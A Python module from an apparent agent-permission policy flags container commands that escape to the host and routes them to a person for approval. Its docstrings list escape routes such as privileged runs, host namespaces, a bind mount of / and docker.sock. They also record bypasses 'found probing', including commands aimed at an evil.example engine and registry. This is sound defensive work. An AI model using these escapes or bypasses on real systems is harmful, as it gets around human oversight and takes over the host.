"""Container runs that hand the container the host: ``--privileged``, the host's
process, user, network or cgroup namespace (or another container's), added
capabilities, devices, a cgroup parent, confinement switched off, the host's system
directories or its root mounted; compose files and engines whose containers are set up
elsewhere.

Such a container is root on the host in all but name (``--privileged`` lets it mount
the host's disks; ``--pid=host`` with ``nsenter`` enters the host's processes;
``--network=host`` reaches every loopback service, ExoMonad's dashboard included;
``--mount type=bind,source=/`` is the host's root, writable by the container's root),
so its command is :class:`~exomonad.policy.actions.Unknown`: a person's to approve, for
every role (the lead's too), as ``sudo`` is. Found probing: ``docker run --privileged
IMAGE CMD`` was allowed for a worker, named no path and so met no rule; then (a second
round) ``--mount type=bind,source=/,...``, ``--network=container:X``,
``--cgroup-parent``, ``docker compose up`` (a compose file the worker wrote can say
``privileged: true``), ``ctr run --privileged``, ``buildah run --cap-add ALL``, ``lxc
exec``. (No container engine runs on the machines this was found on, so its effect is
Docker's documented one, not measured here.)

For a worker, the paths a container command names on the host are its mounts' sources
(:func:`host_side`): the path after ``-w`` and a mount's target are the container's, not
the host's (``docker run --rm -v "$PWD:/w" -w /w node npm test`` stays allowed).

>>> from exomonad.policy.shell_lex import Word
>>> def words(text): return [Word(t) for t in text.split()]
>>> escapes("docker", words("run --rm --privileged alpine"), "/w")
'--privileged gives the container the host'
>>> escapes("podman", words("run --net host alpine"), "/w")
'--net host gives the container the host'
>>> escapes("docker", words("run --mount type=bind,source=/,target=/h alpine"), "/w")
'--mount type=bind,source=/,target=/h gives the container the host (/)'
>>> escapes("docker", words("run --rm -v ./src:/src alpine"), "/w") is None
True
"""

from __future__ import annotations

import re

from exomonad.policy.shell_env import is_within
from exomonad.policy.shell_lex import Word
from exomonad.policy.shell_paths import resolve_path

__all__ = [
    "CONTAINER_ENGINES",
    "engine_contexts",
    "engine_hosts",
    "escapes",
    "host_side",
    "registry_hosts",
]

#: Programs that run containers, Docker's command line or one like it.
CONTAINER_ENGINES = frozenset({"docker", "podman", "nerdctl", "finch", "ctr", "buildah"})
#: Programs that run what a compose file says (and the engines' ``compose`` verb).
_COMPOSE = frozenset({"docker-compose", "podman-compose", "nerdctl-compose"})
#: Compose verbs that start no container: anything else may run what the file says.
_COMPOSE_READS = frozenset({"ps", "ls", "logs", "config", "convert", "images", "top", "version",
                            "port", "events", "down", "stop", "kill", "rm", "pause", "unpause",
                            "help", "stats", "wait"})  # fmt: skip
#: Compose's global options that take a value (any other option: not read, so asked).
_COMPOSE_WITH_ARG = frozenset({"-f", "--file", "-p", "--project-name", "--profile",
                               "--env-file", "--project-directory", "--ansi", "--progress",
                               "--parallel"})  # fmt: skip
_COMPOSE_FLAGS = frozenset({"--dry-run", "--compatibility", "--verbose", "--all-resources"})
#: Programs that enter or start containers whose privileges and mounts are set elsewhere
#: (``lxc config set c security.privileged true``, a machine's own configuration).
_ELSEWHERE = frozenset({"lxc", "incus", "lxd", "lxc-attach", "lxc-execute", "lxc-start",
                        "systemd-nspawn", "machinectl", "runc", "crun", "crictl",
                        "limactl"})  # fmt: skip
_ELSEWHERE_READS = frozenset({"list", "ls", "info", "version", "help", "--version", "--help",
                              "-h", "ps", "images"})  # fmt: skip
#: Options that open the container to the host whatever their value.
_ALWAYS = frozenset({"--privileged", "--cap-add", "--device", "--device-cgroup-rule",
                     "--volumes-from", "--cgroup-parent", "--net-host", "--with-ns",
                     "--rootfs", "--privileged-without-host-devices"})  # fmt: skip
#: Options that open it with the value ``host`` (or another container's, ``container:X``,
#: or a namespace's path, ``ns:/proc/1/ns/net``).
_HOST = frozenset({"--pid", "--ipc", "--userns", "--uts", "--cgroupns", "--network", "--net"})
#: ``--security-opt`` values that switch confinement off.
_UNCONFINED = ("unconfined", "label=disable", "label:disable", "no-new-privileges=false")
#: ``docker buildx build --allow`` entitlements that give a build the host.
_ENTITLEMENTS = ("security.insecure", "network.host")
#: The host's directories a container's root may not have: its system and its sockets.
_HOST_DIRS = ("/etc", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32",
              "/boot", "/dev", "/proc", "/sys", "/run", "/var", "/root", "/opt", "/nix",
              "/snap")  # fmt: skip
#: Short options of ``docker run``/``create``/``exec`` that take a value (so a cluster
#: ``-itv SRC:DST`` is read as getopt reads it).
_SHORT_VALUE = "aceghlmpuvw"
#: Options whose value is the container's (a path inside it, its environment).
_INSIDE = frozenset({"-w", "--workdir", "--workingdir", "-e", "--env", "--tmpfs",
                     "--entrypoint"})  # fmt: skip
#: Options whose value is a mount: a host path (its source), then the container's.
_MOUNTS = frozenset({"-v", "--volume", "--mount"})
#: A mount source that is the directory the command runs in: ``$PWD``, ``$(pwd)``.
_HERE = re.compile(r"(?:\$PWD|\$\{PWD\}|\$\(pwd\)|`pwd`)(?![A-Za-z0-9_])")


def _options(args: list[Word]) -> list[tuple[str, Word | None, str]]:
    """Each option among ``args`` (as ``getopt`` reads Docker's), its value (the next
    word for a long one without ``=``, None when there is none or for a short flag) and
    how it reads in a question; a short cluster gives each of its letters."""
    found: list[tuple[str, Word | None, str]] = []
    for i, word in enumerate(args):
        text = word.text
        after = args[i + 1] if i + 1 < len(args) else None
        if text.startswith("--") and len(text) > 2:
            option, eq, value = text.partition("=")
            if eq:
                found.append((option, Word(value, word.dynamic, word.quoted), text))
            else:
                found.append((option, after, f"{text} {after.text}" if after else text))
        elif text.startswith("-") and len(text) > 1:
            for j, letter in enumerate(text[1:], start=2):
                if letter not in _SHORT_VALUE:
                    found.append(("-" + letter, None, text))
                elif j < len(text):
                    found.append(("-" + letter, Word(text[j:], word.dynamic, word.quoted), text))
                else:
                    found.append(("-" + letter, after, f"{text} {after.text}" if after else text))
                if letter in _SHORT_VALUE:
                    break
    return found


def _source(option: str, value: Word) -> tuple[Word | None, bool]:
    """The host path a mount's value names (None: a volume's name, none at all), and
    whether it has volume options (``volume-opt=device=/``: the local driver mounts
    what they name, the host's root included)."""
    if option == "--mount":
        source, opts = None, False
        for field in value.text.split(","):
            key, _, got = field.partition("=")
            key = key.strip().strip('"').lower()
            if key in ("source", "src"):
                source = got
            opts = opts or key == "volume-opt"
        text = source
    else:
        text, colon, _ = value.text.partition(":")
        if not colon:
            return None, False  # `-v /data`: an anonymous volume at /data inside
        opts = False
    if text is None or not (value.dynamic or text.startswith(("/", ".", "~", "$", "`"))):
        return None, opts
    return Word(text, value.dynamic and ("$" in text or "`" in text), value.quoted), opts


def _host_path(source: Word, cwd: str | None) -> str | None:
    """The absolute host path of a mount's literal source, or None when not known."""
    text = source.text
    if source.dynamic:
        here = _HERE.match(text)
        rest = text[here.end() :] if here else "$"
        if here is None or "$" in rest or "`" in rest or (rest and not rest.startswith("/")):
            return None
        text = "." + rest
    return resolve_path(cwd, text)


def _gives_host(path: str, cwd: str | None) -> bool:
    """Whether a mount of host ``path`` gives the container the host: the root, a
    system directory or one of the host's sockets (``/var/run/docker.sock``), unless it
    is below the directory the command runs in (a project under ``/var``)."""
    if path == "/":
        return True
    if cwd is not None and cwd.count("/") >= 2 and is_within(path, cwd):
        return False
    return any(is_within(path, d) for d in _HOST_DIRS)


def _compose(name: str, args: list[Word]) -> str | None:
    """Why a compose command may give a container the host: it runs what the compose
    file says (``privileged: true``, ``network_mode: host``, a mount of ``/``), and that
    file is not read here. Verbs that start nothing (``ps``, ``logs``, ``down``) stay."""
    i = 0
    while i < len(args):
        text = args[i].text
        if args[i].dynamic:
            break
        option = text.partition("=")[0]
        if option in _COMPOSE_WITH_ARG:
            i += 1 if "=" in text else 2
            continue
        if option in _COMPOSE_FLAGS:
            i += 1
            continue
        if not text.startswith("-") and text in _COMPOSE_READS:
            return None
        break
    shown = " ".join(w.text for w in args[: i + 1])
    return f"{name} {shown} runs what a compose file says, which may give a container the host"


def escapes(name: str, args: list[Word], cwd: str | None = None) -> str | None:
    """Why the container ``name`` runs with ``args`` (in ``cwd``) gets the host, or None."""
    texts = [w.text for w in args]
    sub = texts[_first_operand(args) :] if name in CONTAINER_ENGINES else texts
    if name in _COMPOSE:
        return _compose(name, args)
    if name in CONTAINER_ENGINES and sub[:1] == ["compose"]:
        return _compose(f"{name} compose", args[len(texts) - len(sub) + 1 :])
    if name in CONTAINER_ENGINES and sub[:2] == ["stack", "deploy"]:
        return f"{name} stack deploy runs what a compose file says: maybe the host"
    if name in _ELSEWHERE:
        verb = next((t for t in texts if not t.startswith("-") or t in _ELSEWHERE_READS), None)
        if verb is None or verb not in _ELSEWHERE_READS:
            return f"{name} runs in a container set up elsewhere, possibly with the host"
        return None
    if name not in CONTAINER_ENGINES:
        return None
    volume_opts = sub[:2] == ["volume", "create"]
    for option, value, shown in _options(args):
        text = "" if value is None else value.text
        if option in _ALWAYS:
            flag = option == "--privileged" and not shown.startswith("--privileged=")
            if option == "--privileged" and not flag and text.lower() == "false":
                continue
            return f"{option if flag else shown} gives the container the host"
        if option in _HOST and (text == "host" or text.startswith(("container:", "ns:"))):
            return f"{shown} gives the container the host"
        if option == "--security-opt" and any(u in text for u in _UNCONFINED):
            return f"--security-opt {text} gives the container the host"
        if option == "--allow" and any(e in text for e in _ENTITLEMENTS):
            return f"--allow {text} gives the build the host"
        if volume_opts and option in ("-o", "--opt"):
            return f"{shown} mounts what its options name, the host's root or a share"
        if option in _MOUNTS and value is not None:
            source, opts = _source(option, value)
            if opts:
                return f"{shown} mounts what its options name, the host's root or a share"
            path = None if source is None or source.dynamic else _host_path(source, cwd)
            if path is not None and _gives_host(path, cwd):
                return f"{shown} gives the container the host ({path})"
    return None


def host_side(name: str, args: list[Word], cwd: str | None) -> tuple[list[Word], bool]:
    """The words of a container command that may name host paths, for judging where
    they point: the mounts' sources (absolute) in place of the mounts, without what is
    the container's (``-w /w``, a mount's target, ``-e``, ``--tmpfs``); and whether a
    mount's source is built at run time from anything but ``$PWD``/``$(pwd)`` (a path
    not known). Any other program's words are returned as they are.

    >>> from exomonad.policy.shell_lex import Word
    >>> got = host_side("docker", [Word(t) for t in "run -v ..:/h -w /w x".split()], "/p/w")
    >>> [w.text for w in got[0]], got[1]
    (['run', '/p', 'x'], False)
    """
    if name not in CONTAINER_ENGINES:
        return args, False
    out: list[Word] = []
    unclear = False
    i = 0
    while i < len(args):
        word, text = args[i], args[i].text
        option, value, used = "", None, 1
        if text.startswith("--"):
            option, eq, inline = text.partition("=")
            if eq:
                value = Word(inline, word.dynamic, word.quoted)
            elif i + 1 < len(args):
                value, used = args[i + 1], 2
        elif text.startswith("-") and len(text) > 1:  # the first letter taking a value
            at = next((j for j, c in enumerate(text) if j and c in _SHORT_VALUE), None)
            if at is not None:
                option = "-" + text[at]
                if at + 1 < len(text):
                    value = Word(text[at + 1 :], word.dynamic, word.quoted)
                elif i + 1 < len(args):
                    value, used = args[i + 1], 2
        if value is None or (option not in _INSIDE and option not in _MOUNTS):
            out.append(word)
            i += 1
            continue
        if option in _MOUNTS:
            source, _ = _source(option, value)
            path = None if source is None else _host_path(source, cwd)
            unclear = unclear or (source is not None and path is None)
            out += [Word(path)] if path is not None else []
        i += used
    return out, unclear


def engine_hosts(name: str, args: list[Word]) -> list[Word]:
    """The engines a container command talks to, as its global options name them
    (``docker -H tcp://h:2375``, ``--host h:2375``, ``-DH h``, ``podman --url``): a command
    sent to another engine runs there (found probing: ``DOCKER_HOST=tcp://evil.example:2375
    docker run alpine`` was allowed; the variable is judged with the assignments)."""
    if name not in CONTAINER_ENGINES and name not in _COMPOSE:
        return []
    return [
        v for option, v in _global_options(args)[0] if option in _ENGINE_OPTIONS and v is not None
    ]


#: An image reference that names its registry: ``HOST[:PORT]/PATH[:TAG][@DIGEST]``, the
#: host holding a ``.`` or a port, ``localhost``, or an IPv6 address in brackets; a path
#: component's separators as Docker's (``.``, ``_``, ``__``, any run of ``-``).
_COMPONENT = r"[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*"
_IMAGE = re.compile(
    r"((?:[a-z0-9-]+\.)+[a-z0-9-]+(?::\d+)?|[a-z0-9-]+:\d+|localhost|\[[0-9a-f:.]+\](?::\d+)?)"
    rf"/{_COMPONENT}(?:/{_COMPONENT})*(?::\w[\w.-]{{0,127}})?(?:@[a-z0-9]+:[a-f0-9]+)?",
    re.IGNORECASE,
)
#: The verbs that fetch or send an image, or log in to a registry (``docker pull``,
#: ``run``, ``image push``, ``login HOST``); the groups whose every image reference is
#: reached (``manifest inspect``, ``plugin install``, ``buildx build --push``).
_REGISTRY_VERBS = frozenset({"pull", "push", "run", "create", "login"})
_REGISTRY_GROUPS = frozenset({"manifest", "plugin", "buildx", "trust"})


def registry_hosts(name: str, args: list[Word]) -> list[str | None]:
    """The registries a container command pulls from or pushes to, as its image
    references name them (found probing: ``docker pull evil.example/img`` was allowed,
    and the registry at ``evil.example`` sees the pull and what its path carries); None
    for a reference whose host is known only at run time."""
    if name not in CONTAINER_ENGINES:
        return []
    rest = args[_global_options(args)[1] :]
    verbs = [w.text for w in rest[:2]]
    if verbs[:1] in (["image"], ["container"]):
        verbs, rest = verbs[1:], rest[1:]
    if not verbs or (verbs[0] not in _REGISTRY_VERBS and verbs[0] not in _REGISTRY_GROUPS):
        return []
    found: list[str | None] = []
    for w in rest[1:]:
        text = w.text.split("$", 1)[0].split("`", 1)[0] if w.dynamic else w.text
        if verbs[0] == "login" and not text.startswith("-"):
            found.append(text.lower() if text and not w.dynamic else None)
            break
        m = _IMAGE.fullmatch(text) if not w.dynamic else _IMAGE.match(text + "x")
        if m is not None:
            found.append(m.group(1).lower().strip("[]"))
    return list(dict.fromkeys(found))


def engine_contexts(name: str, args: list[Word]) -> list[Word]:
    """The contexts a container command is sent by, other than ``default``: ``docker
    --context X``/``-c X``, ``podman --connection X``/``-c X``, or ``docker --config DIR``
    (whose ``config.json`` names the current context). A context may name a remote engine
    as ``-H tcp://...`` does, the command then runs there, and its host is not on the
    command line (found probing: ``docker --context x run ...`` and ``podman --connection
    x ...`` were allowed)."""
    if name not in CONTAINER_ENGINES and name not in _COMPOSE:
        return []
    return [value for option, value in _global_options(args)[0]
            if option in _CONTEXT_OPTIONS and value is not None
            and (value.dynamic or option == "--config" or value.text != "default")]  # fmt: skip


#: Global options naming the engine a command is sent to.
_ENGINE_OPTIONS = ("-H", "--host", "--url")
#: Global options naming a context (a stored engine) or the configuration that names one.
_CONTEXT_OPTIONS = ("--context", "-c", "--connection", "--config")
#: Global options that take a value (any other: a flag), and the short ones among them.
_GLOBAL_WITH_VALUE = frozenset({*_ENGINE_OPTIONS, *_CONTEXT_OPTIONS, "-l", "--log-level"})
_GLOBAL_SHORT_VALUE = "Hcl"


def _global_options(args: list[Word]) -> tuple[list[tuple[str, Word | None]], int]:
    """The global options before a container command's first operand, each with its value
    (None for a flag, or a value missing at the end), as Docker's and Podman's option
    parser reads them (``--context=x``, ``-c x``, ``-cx``, ``-c=x``, a cluster ``-Dc x``);
    and where the first operand is."""
    found: list[tuple[str, Word | None]] = []
    i = 0
    while i < len(args) and args[i].text.startswith("-") and args[i].text != "-":
        word, text = args[i], args[i].text
        i += 1
        if text == "--":
            break
        if text.startswith("--"):
            option, eq, inline = text.partition("=")
            if eq:
                found.append((option, Word(inline, word.dynamic, word.quoted)))
            elif option in _GLOBAL_WITH_VALUE:
                found.append((option, args[i] if i < len(args) else None))
                i += 1
            else:
                found.append((option, None))
            continue
        for j, letter in enumerate(text[1:], start=2):
            if letter not in _GLOBAL_SHORT_VALUE:
                found.append(("-" + letter, None))
                continue
            inline = text[j:].removeprefix("=")
            if inline:
                found.append(("-" + letter, Word(inline, word.dynamic, word.quoted)))
            else:
                found.append(("-" + letter, args[i] if i < len(args) else None))
                i += 1
            break
    return found, min(i, len(args))


def _first_operand(args: list[Word]) -> int:
    """Where the global options end (the first word that is not an option or the value
    of ``-H``/``--host``/``--url``/``--context``/``-c``/``--config``...)."""
    return _global_options(args)[1]
